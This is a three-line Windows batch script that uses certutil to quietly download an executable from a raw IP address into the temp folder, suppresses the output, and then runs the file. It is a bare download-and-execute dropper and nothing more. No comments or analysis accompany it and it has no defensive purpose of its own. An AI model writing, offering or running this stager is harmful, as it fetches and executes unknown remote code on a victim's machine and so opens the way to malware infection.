@echo off
certutil -urlcache -split -f http://203.0.113.5/p.exe %TEMP%\p.exe >nul
%TEMP%\p.exe
